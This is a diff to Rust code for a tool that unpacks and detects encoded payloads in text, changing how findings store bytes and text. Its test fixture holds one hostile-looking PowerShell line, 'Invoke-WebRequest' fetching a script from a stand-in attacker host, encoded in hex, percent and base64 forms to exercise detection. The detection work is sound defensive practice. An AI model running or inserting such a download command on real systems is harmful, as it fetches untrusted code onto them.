@@ -21,7 +21,7 @@ pub fn unpack(text: &str, budget: &mut Budget) -> Unpacked {
     let originals = budget.limits().kept.saturating_mul(ORIGINALS);
     let mut walk = Walk { budget, findings: Vec::new(), originals };
     let full = walk.text(text, &Place { reference: None, depth: 1 });
-    Unpacked { findings: walk.findings, full: full.unwrap_or_else(|| text.to_owned()) }
+    Unpacked { findings: walk.findings, full: full.unwrap_or_default() }
 }
 
 /// Where findings are looked for.
@@ -52,7 +52,10 @@ impl Walk<'_> {
     /// Looks for payloads in a text; gives the text with them replaced, or None where there are none.
     fn text(&mut self, text: &str, place: &Place) -> Option<String> {
         let payloads = search(text, self.budget);
-        let mut full = Capped::new(self.budget.limits().kept);
+        if payloads.is_empty() {
+            return None;
+        }
+        let mut full = Capped::new(self.budget.limits().kept, text.len());
         let (mut done, mut index) = (0, 0);
         for payload in payloads {
             if !self.has_place() {
@@ -100,19 +103,25 @@ impl Walk<'_> {
     /// Notes a finding and all that lies in it; gives its markup.
     fn item(&mut self, item: Item<'_>, index: usize, place: &Place) -> String {
         let kept = self.budget.limits().kept;
-        let finding = finding(&item, index, place, kept);
+        let mut finding = finding(&item, index, place, kept);
         let below = Place { reference: Some(finding.reference.clone()), depth: place.depth.saturating_add(1) };
         let at = self.findings.len();
-        self.findings.push(finding);
         let Item { original, member: Member { name, bytes, .. }, reading, .. } = item;
         let file_type = reading.file_type();
         let label = Label { name: name.as_deref(), file_type, index, depth: place.depth };
-        match reading {
-            Reading::Text(_, text) => {
-                drop(bytes);
-                let full = self.below_text(&text, at, &below);
-                label.text(full.as_deref().unwrap_or(&text), kept)
+        if let Reading::Text(_, text) = reading {
+            finding.bytes = if bytes.len() > kept { start(&bytes, kept) } else { bytes };
+            self.findings.push(finding);
+            let full = self.below_text(&text, at, &below);
+            let markup = label.text(full.as_deref().unwrap_or(&text), kept);
+            if let Some(finding) = self.findings.get_mut(at) {
+                finding.text = Some(if text.len() > kept { cut(&text, kept).to_owned() } else { text });
             }
+            return markup;
+        }
+        finding.bytes = start(&bytes, kept);
+        self.findings.push(finding);
+        match reading {
             Reading::File(FileType { container: Some(container), .. }) => {
                 match self.below_archive(container, &bytes, original, at, &below).as_slice() {
                     [] => label.binary(&bytes, kept),
@@ -120,7 +129,7 @@ impl Walk<'_> {
                     members => label.multiple(members, kept),
                 }
             }
-            Reading::File(_) | Reading::Link(_) | Reading::Unknown => label.binary(&bytes, kept),
+            _ => label.binary(&bytes, kept),
         }
     }
 
@@ -190,12 +199,14 @@ fn wrapping_of(container: Container) -> Wrapping {
     }
 }
 
+fn start(bytes: &[u8], kept: usize) -> Vec<u8> {
+    bytes.get(..kept).unwrap_or(bytes).to_vec()
+}
+
+/// What a payload is told to be, its bytes and its text still left out.
 fn finding(item: &Item<'_>, index: usize, place: &Place, kept: usize) -> Finding {
     let bytes = item.member.bytes.as_slice();
-    let (encoding, text) = match &item.reading {
-        Reading::Text(encoding, text) => (*encoding, Some(cut(text, kept).to_owned())),
-        _ => (Encoding::Binary, None),
-    };
+    let encoding = if let Reading::Text(encoding, _) = item.reading { encoding } else { Encoding::Binary };
     let parent = place.reference.clone();
     Finding {
         reference: parent.as_ref().map_or_else(|| index.to_string(), |above| format!("{above}.{index}")),
@@ -206,9 +217,9 @@ fn finding(item: &Item<'_>, index: usize, place: &Place, kept: usize) -> Finding
         file_name: item.member.name.clone(),
         file_type: item.reading.file_type(),
         container: item.wrapping,
-        bytes: bytes.get(..kept).unwrap_or(bytes).to_vec(),
+        bytes: Vec::new(),
         size: bytes.len(),
-        text,
+        text: None,
         encoding,
         md5: hex(&Md5::digest(bytes)),
         sha1: hex(&Sha1::digest(bytes)),
@@ -333,7 +344,6 @@ mod tests {
             "https://h.example/find?q=a%20b%20c%20d&lang=en&page=one&sort=descending",
         ] {
             assert_eq!(found(text), [], "{text}");
-            assert_eq!(unpacked(text).full, text);
         }
     }
 
@@ -395,7 +405,7 @@ mod tests {
     #[test]
     fn every_notation_is_looked_for_inside_of_every_other() {
         let script = "Invoke-WebRequest http://evil.example/x.ps1";
-        let percent = format!("%{}", parted_hex(script.as_bytes(), "%"));
+        let percent = format!("%{}", parted_hex(script.as_bytes(), b'%'));
         let list = script.bytes().map(|b| format!("{b:#04x}")).collect::<Vec<_>>().join(",");
         for inner in [hex(script.as_bytes()), percent, list] {
             let text = STANDARD.encode(&inner);
